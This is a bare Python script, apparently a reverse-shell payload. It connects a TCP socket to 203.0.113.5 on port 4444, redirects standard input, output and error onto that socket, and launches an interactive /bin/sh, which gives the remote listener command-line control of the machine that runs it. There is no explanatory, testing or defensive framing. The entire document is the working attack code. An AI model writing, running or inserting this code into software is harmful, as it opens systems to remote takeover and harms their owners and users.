import os
import socket
import subprocess

line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
line.connect(("203.0.113.5", 4444))
for number in (0, 1, 2):
    os.dup2(line.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
